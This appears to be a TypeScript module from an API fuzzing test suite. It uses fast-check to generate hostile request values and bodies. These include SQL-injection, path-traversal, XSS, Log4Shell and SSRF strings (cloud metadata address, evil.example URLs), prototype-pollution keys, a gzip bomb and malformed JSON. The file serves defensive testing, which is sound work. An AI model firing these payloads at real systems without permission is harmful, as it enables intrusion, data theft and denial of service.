import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import type { JsonSchema } from './openapi-operations';

/**
 * Hostile values for every place a request carries data. Nothing here may contain the texts the
 * answer checks look for (stack frames, SQL keywords with FROM/INTO, driver error names), so a
 * body that echoes an input is never mistaken for a leak.
 */

/** Lengths at and around the limits APIs like this one use. */
export const BOUNDARY_LENGTHS = [
  0, 1, 2, 3, 4, 7, 8, 9, 31, 32, 33, 63, 64, 65, 100, 101, 127, 128, 129, 254, 255, 256, 500, 501,
  1024, 1025, 2048, 2049, 4096, 4097, 8192, 8193, 65_536,
];

export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t\n',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\ud83d',
  '\u202eevil',
  'a\u200bb',
  '\ufeffbom',
  '\ufdfa',
  '\u01c5',
  'ß',
  'İ',
  'ﬀ',
  'Ａｄｍｉｎ',
  '\u0430dmin',
  '𝕒𝕕𝕞𝕚𝕟',
  '👨‍👩‍👧‍👦',
  'e\u0301\u0301\u0301',
  "' OR '1'='1",
  '1; DROP TABLE users; --',
  '"',
  '\\',
  '\\u0000',
  '%00',
  '%zz',
  '%',
  '%E0%A4%A',
  '../../../etc/passwd',
  '..%2F..%2F',
  '..',
  '.',
  '/',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  'data:text/html,<b>x</b>',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e308',
  '0x41',
  'https://evil.example/',
  'http://127.0.0.1:1/',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]/',
  'http://localhost/',
  'file:///etc/passwd',
  'https://user:pass@evil.example/',
  'HTTPS://APP.EXAMPLE.COM/CALLBACK',
  'https://app.example.com/callback',
  'https://app.example.com/callback#x',
  'https://app.example.com/callback?x=1',
  'https://app.example.com',
  '//evil.example',
  'ada@example.com',
  ' ADA@EXAMPLE.COM ',
  'a@b',
  '@',
  '"a b"@example.com',
  'a@[127.0.0.1]',
  'ä@ä.de',
  '+14155550123',
  '+1 415 555 0123',
  '+999999999999999',
  '000000',
  '123456',
  'abcde-fghij',
  '*',
  'user.created',
  'pk_unknownunknownunknownunknown',
  `sk_${'a'.repeat(40)}`,
  'eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.',
  '9999-12-31',
  '0000-01-01',
  '1970-01-01T00:00:00Z',
  '+275760-09-13T00:00:00Z',
  '00000000-0000-0000-0000-000000000000',
  'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF',
  '\r\nX-Injected: 1',
  'public-key',
  'totp',
  'admin',
  'disabled',
];

const FILLERS = ['a', 'é', '😀', '\u0000', '\ud800', '\ufdfa', ' ', '%', '1'];

/** Text meant to break whatever reads it. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...FILLERS), fc.constantFrom(...BOUNDARY_LENGTHS))
      .map(([c, n]) => c.repeat(n)),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(...BOUNDARY_LENGTHS).map((n) => `${'a'.repeat(n)}@example.com`),
  },
);

const BOUNDARY_NUMBERS = [
  0,
  -0,
  1,
  -1,
  59,
  60,
  61,
  86_399,
  86_400,
  86_401,
  100,
  101,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53 - 1,
  2 ** 53 + 2,
  Number.MAX_VALUE,
  -Number.MAX_VALUE,
  5e-324,
  0.5,
  1e21,
  1e-7,
];

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...BOUNDARY_NUMBERS) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
);

/** Keys an attacker puts in objects: prototype pollution, operators, odd Unicode. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    '$ne',
    '$gt',
    '',
    ' ',
    'is_admin',
    'isAdmin',
    'admin',
    'tenant_id',
    'project_id',
    'id',
    'a.b',
    'a[b]',
    '\u0000',
    '\ud800',
    'é',
    'toString',
  ),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 12 }),
);

/** Any JSON value, small, of any type (for members of the wrong type). */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  hostileNumber,
  hostileText,
  fc.constant([]),
  fc.constant({}),
  fc.array(hostileText, { maxLength: 3 }),
  fc.dictionary(hostileKey, hostileText, { maxKeys: 3 }),
  fc.integer({ min: 33, max: 64 }).map((n) => nest(n, 'x')),
);

/** An object (or array) nested `depth` levels deep. */
export function nest(depth: number, leaf: unknown, arrays = false): unknown {
  let v = leaf;
  for (let i = 0; i < depth; i++) v = arrays ? [v] : { a: v };
  return v;
}

/** A value of the schema's own type, plausible or at its edges. */
function typedValue(
  schema: JsonSchema,
  depth: number,
  words: readonly string[],
): fc.Arbitrary<unknown> {
  const type = schema.type ?? (schema.properties ? 'object' : undefined);
  const examples = [schema.example, schema.default, ...(schema.enum ?? [])].filter(
    (v) => v !== undefined,
  );
  const known = examples.length ? [fc.constantFrom(...examples)] : [];
  switch (type) {
    case 'string': {
      const lengths = [schema.minLength, schema.maxLength]
        .filter((n): n is number => typeof n === 'number')
        .flatMap((n) => [n - 1, n, n + 1])
        .filter((n) => n >= 0);
      return fc.oneof(
        ...known,
        fc.constantFrom(...words),
        hostileText,
        ...(lengths.length ? [fc.constantFrom(...lengths).map((n) => 'a'.repeat(n))] : []),
      );
    }
    case 'integer':
    case 'number': {
      const edges = [schema.minimum, schema.maximum]
        .filter((n): n is number => typeof n === 'number')
        .flatMap((n) => [n - 1, n, n + 1]);
      return fc.oneof(
        ...known,
        hostileNumber,
        ...(edges.length ? [fc.constantFrom(...edges)] : []),
      );
    }
    case 'boolean':
      return fc.boolean();
    case 'array':
      return fc.oneof(
        {
          weight: 4,
          arbitrary: fc.array(
            depth > 4 ? anyJson : valueFor(schema.items ?? {}, depth + 1, words),
            { maxLength: 4 },
          ),
        },
        {
          weight: 1,
          arbitrary: fc
            .constantFrom(101, 501, 1001)
            .map((n) => Array.from({ length: n }, (_, i) => `https://a${i}.example.com`)),
        },
      );
    case 'object':
      return depth > 4
        ? fc.dictionary(hostileKey, anyJson, { maxKeys: 3 })
        : objectFor(schema, depth + 1, words);
    default:
      return anyJson;
  }
}

/** A member's value: mostly of its type, sometimes of another type, null, or nested too deep. */
export function valueFor(
  schema: JsonSchema,
  depth: number,
  words: readonly string[],
): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 6, arbitrary: typedValue(schema, depth, words) },
    { weight: 2, arbitrary: anyJson },
    { weight: 1, arbitrary: fc.constant(null) },
  );
}

/** An object for the schema: a random subset of its members, now and then a foreign or polluting key. */
export function objectFor(
  schema: JsonSchema,
  depth: number,
  words: readonly string[],
): fc.Arbitrary<Record<string, unknown>> {
  const props = schema.properties ?? {};
  const known = Object.keys(props).length
    ? fc.record(
        Object.fromEntries(Object.entries(props).map(([k, v]) => [k, valueFor(v, depth, words)])),
        { requiredKeys: [] },
      )
    : fc.constant({});
  return fc
    .tuple(
      known,
      fc.oneof(
        { weight: 4, arbitrary: fc.constant([]) },
        { weight: 1, arbitrary: fc.array(fc.tuple(hostileKey, anyJson), { maxLength: 2 }) },
      ),
    )
    .map(([obj, extra]) => {
      const out: Record<string, unknown> = { ...obj };
      // defineProperty: `out.__proto__ = …` would set the prototype instead of a member named so.
      for (const [k, v] of extra)
        Object.defineProperty(out, k, {
          value: v,
          enumerable: true,
          writable: true,
          configurable: true,
        });
      return out;
    });
}

/**
 * Placeholders for ids in bodies, replaced when the request is sent by an id of the fuzzer's own
 * rows or of foreign ones (which pools hold them is only known then).
 */
export const idPlaceholder = (kind: 'own' | 'foreign', pick: number, member: string) =>
  `~~${kind}:${pick}:${member}~~`;
export const ID_PLACEHOLDER = /~~(own|foreign):(\d+):([a-z_]*)~~/g;

/**
 * Members named `…_id` that name no resource of ours but something of another system (the WebAuthn
 * relying party's host, an OAuth client, Apple's team and key): plain strings, not ids to swap for
 * one of another tenant.
 */
const OTHER_SYSTEMS_IDS = new Set(['rp_id', 'client_id', 'team_id', 'key_id']);

/** A plausible value for a member, guessed from its schema and its name, so bodies get past validation. */
function plausibleValue(
  name: string,
  schema: JsonSchema,
  depth: number,
  words: readonly string[],
): fc.Arbitrary<unknown> {
  const type = schema.type ?? (schema.properties ? 'object' : undefined);
  const given = [schema.example, ...(schema.enum ?? []), schema.default].filter(
    (v) =>
      v !== undefined &&
      (type === undefined || type === 'object' || typeof v === type || Array.isArray(v)),
  );
  if (/(^|_)id$/.test(name) && !OTHER_SYSTEMS_IDS.has(name))
    return fc.oneof(
      fc.nat().map((n) => idPlaceholder('own', n, name)),
      fc.nat().map((n) => idPlaceholder('foreign', n, name)),
    );
  if (type === 'string' && /email/.test(name))
    return fc.oneof(
      fc.stringMatching(/^[a-z]{3,10}$/).map((s) => `${s}@example.com`),
      ...given.map((g) => fc.constant(g)),
    );
  if (given.length && type !== 'object') return fc.constantFrom(...given);
  switch (type) {
    case 'string':
      if (/password/.test(name))
        return fc.constantFrom('a sturdy passphrase 42', 'correct horse battery staple 7');
      if (/url|uri|origin/.test(name))
        return fc.constantFrom(
          'https://app.example.com/callback',
          'https://app.example.com',
          'http://localhost:3000/cb',
        );
      return fc.stringMatching(/^[a-z][a-z0-9-]{2,20}$/);
    case 'integer':
    case 'number':
      return fc.integer({ min: schema.minimum ?? 1, max: schema.maximum ?? 100 });
    case 'boolean':
      return fc.boolean();
    case 'array':
      if (/origin/.test(name)) return fc.constant(['https://app.example.com']);
      if (/url/.test(name)) return fc.constant(['https://app.example.com/callback']);
      if (/event/.test(name)) return fc.constantFrom(['*'], ['user.created', 'session.revoked']);
      return fc.array(plausibleValue(name, schema.items ?? {}, depth + 1, words), {
        minLength: 1,
        maxLength: 2,
      });
    case 'object':
      return depth > 3 ? fc.constant({}) : plausibleObject(schema, depth + 1, words);
    default:
      return fc.constantFrom(...(words.length ? words : ['x']));
  }
}

/** An object whose members all look right: every required one, some optional ones. */
export function plausibleObject(
  schema: JsonSchema,
  depth: number,
  words: readonly string[],
): fc.Arbitrary<Record<string, unknown>> {
  const props = schema.properties ?? {};
  if (!Object.keys(props).length) return fc.constant({});
  return fc.record(
    Object.fromEntries(
      Object.entries(props).map(([k, v]) => [k, plausibleValue(k, v, depth, words)]),
    ),
    { requiredKeys: schema.required ?? [] },
  );
}

/** A plausible object with one member made hostile (of another type, null, or hostile text). */
function oneMemberHostile(
  schema: JsonSchema,
  words: readonly string[],
): fc.Arbitrary<Record<string, unknown>> {
  const keys = Object.keys(schema.properties ?? {});
  if (!keys.length) return objectFor(schema, 0, words);
  return fc
    .tuple(
      plausibleObject(schema, 0, words),
      fc.constantFrom(...keys),
      fc.oneof(anyJson, hostileText, fc.constant(null)),
    )
    .map(([obj, key, value]) => ({ ...obj, [key]: value }));
}

/** A request body as bytes on the wire, with the Content-Type and Content-Encoding it claims. */
export interface WireBody {
  kind: string;
  bytes: Buffer | null;
  contentType?: string;
  contentEncoding?: string;
}

const RAW_JSON = [
  '{',
  '{"a":',
  "{'a':1}",
  '[1,2',
  'NaN',
  '{"a":1}}',
  '\u0000',
  '{"a":1e999}',
  '{"n":123456789012345678901234567890}',
  '{"a":1,"a":{"b":2}}',
  '\ufeff{}',
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  ' ',
  '',
];

let bomb: Buffer | null = null;
/** 16 KiB of gzip that inflates to 8 MiB: the body limit must apply to what it inflates to. */
function gzipBomb(): Buffer {
  return (bomb ??= gzipSync(Buffer.alloc(8 * 1024 * 1024, 0x20)));
}

/** A body that looks right, whole or with one member hostile. */
export function plausibleBodyFor(
  schema: JsonSchema,
  words: readonly string[],
): fc.Arbitrary<WireBody> {
  const json =
    (kind: string) =>
    (v: unknown): WireBody => ({
      kind,
      bytes: Buffer.from(JSON.stringify(v)),
      contentType: 'application/json',
    });
  return fc.oneof(
    plausibleObject(schema, 0, words).map(json('plausible object')),
    oneMemberHostile(schema, words).map(json('plausible object, one member hostile')),
  );
}

/** Every kind of body: per schema, not an object, broken, deep, oversized, compressed, mislabelled. */
export function bodyFor(
  schema: JsonSchema | null,
  words: readonly string[],
): fc.Arbitrary<WireBody> {
  const json =
    (kind: string) =>
    (v: unknown): WireBody => ({
      kind,
      bytes: Buffer.from(JSON.stringify(v)),
      contentType: 'application/json',
    });
  const raw =
    (kind: string, contentType = 'application/json') =>
    (text: string): WireBody => ({ kind, bytes: Buffer.from(text, 'utf8'), contentType });
  return fc.oneof(
    { weight: 2, arbitrary: fc.constant<WireBody>({ kind: 'none', bytes: null }) },
    { weight: 4, arbitrary: objectFor(schema ?? {}, 0, words).map(json('schema object')) },
    { weight: 3, arbitrary: plausibleObject(schema ?? {}, 0, words).map(json('plausible object')) },
    {
      weight: 4,
      arbitrary: oneMemberHostile(schema ?? {}, words).map(
        json('plausible object, one member hostile'),
      ),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom<unknown>(null, [], 42, 'text', true, [{}])
        .map(json('not an object')),
    },
    { weight: 2, arbitrary: fc.constantFrom(...RAW_JSON).map(raw('raw JSON')) },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(33, 1000, 50_000)
        .chain((n) =>
          fc
            .constantFrom(
              `${'['.repeat(n)}${']'.repeat(n)}`,
              `${'{"a":'.repeat(Math.min(n, 16_000))}1${'}'.repeat(Math.min(n, 16_000))}`,
            )
            .map(raw(`nested ${n}`)),
        ),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(90_000, 200_000)
        .map((n) => raw(`${n} bytes`)(`{"a":"${'x'.repeat(n)}"}`)),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom<WireBody>(
        {
          kind: 'gzip bomb',
          bytes: gzipBomb(),
          contentType: 'application/json',
          contentEncoding: 'gzip',
        },
        {
          kind: 'gzip not gzip',
          bytes: Buffer.from('{"a":1}'),
          contentType: 'application/json',
          contentEncoding: 'gzip',
        },
        {
          kind: 'gzip ok',
          bytes: gzipSync(Buffer.from('{}')),
          contentType: 'application/json',
          contentEncoding: 'gzip',
        },
        {
          kind: 'unknown encoding',
          bytes: Buffer.from('{}'),
          contentType: 'application/json',
          contentEncoding: 'br, x-evil',
        },
        {
          kind: 'invalid UTF-8',
          bytes: Buffer.from([
            0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc0, 0xaf, 0x22, 0x7d,
          ]),
          contentType: 'application/json',
        },
        {
          kind: 'UTF-16',
          bytes: Buffer.from('{"a":1}', 'utf16le'),
          contentType: 'application/json; charset=utf-16',
        },
      ),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(
          fc.constantFrom(
            'text/plain',
            'application/x-www-form-urlencoded',
            'multipart/form-data; boundary=x',
            'application/xml',
            'application/vnd.api+json',
            'application/json; charset=latin1',
            'application/json;;',
            '',
            'application/problem+json',
          ),
          fc.constantFrom(
            '{}',
            'a=1&__proto__[polluted]=yes',
            '<a>1</a>',
            '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--',
          ),
        )
        .map(([type, text]) => raw(`as ${type || 'no type'}`, type)(text)),
    },
  );
}
